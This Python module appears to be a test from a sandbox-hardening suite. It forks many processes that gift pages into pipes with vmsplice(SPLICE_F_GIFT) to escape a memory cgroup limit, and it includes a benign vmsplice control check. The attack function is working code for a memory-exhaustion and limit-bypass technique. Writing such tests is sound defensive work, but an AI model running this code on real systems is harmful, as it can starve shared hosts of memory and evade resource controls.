"""Give pages away to pipes.

Technique: vmsplice(SPLICE_F_GIFT) puts pages of one's memory into a pipe. The mapping is undone and made anew, the pages
    stay: memory in no process.
Success: the pages given away are more than twice the memory limit.
Stopped by: memory_cgroup
Held when: limit memory
Needs: memory_cgroup
"""
import mmap
import struct

LIMIT = parameters.get("memory_bytes_max", 128 << 20)
SPLICE_F_NONBLOCK, SPLICE_F_GIFT = 2, 8


def attack():
    held, pipes = 0, []

    def give(seconds_process):
        given = 0
        for _ in range(480):
            reading, writing = os.pipe()
            pipes.append((reading, writing))
            memory = mmap.mmap(-1, 64 << 10, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            memory[:] = b"x" * len(memory)
            address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
            vector = ctypes.create_string_buffer(struct.pack("QQ", address, len(memory)))
            given += syscall("vmsplice", writing, vector, 1, SPLICE_F_NONBLOCK | SPLICE_F_GIFT)
        return given

    reading, writing = os.pipe()
    for number in range(100):
        if os.fork() == 0:
            try:
                os.write(writing, give(number).to_bytes(8, "little"))
            except OSError:
                os.write(writing, bytes(8))
            libc.pause()
        held += int.from_bytes(os.read(reading, 8), "little")
        if held > 2 * LIMIT:
            return f"{held >> 20} MB were given away"


def twin():
    """Memory through a pipe without a copy."""
    reading, writing = os.pipe()
    memory = ctypes.create_string_buffer(b"hello")
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(memory), 5))
    assert syscall("vmsplice", writing, vector, 1, 0) == 5
    assert os.read(reading, 10) == b"hello"
